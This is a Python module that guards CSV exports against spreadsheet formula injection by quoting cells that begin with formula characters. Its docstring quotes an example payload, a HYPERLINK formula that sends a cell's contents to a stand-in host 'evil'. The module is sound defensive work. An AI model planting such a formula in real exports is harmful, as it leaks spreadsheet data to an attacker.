"""CSV cells that a spreadsheet shows as text, never runs as a formula.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice
and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "click")``, ``@SUM(...)``); a leading tab
or carriage return is stripped by some of them before they look, so it is treated alike. Such
a cell gets a leading ``'``, which the spreadsheet shows as nothing and which makes the cell
text (OWASP's "CSV injection" advice). Everything a customer or an API client typed goes out
through :func:`cell`; numbers and timestamps the service writes need no quoting but pass
through it harmlessly (a negative number would become text, so none is written as one).
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> str:
    """``value`` as the text of one CSV cell: ``None`` is empty, a formula start is quoted."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def row(values: Iterable[object]) -> list[str]:
    """Every value of one CSV row through :func:`cell`."""
    return [cell(v) for v in values]
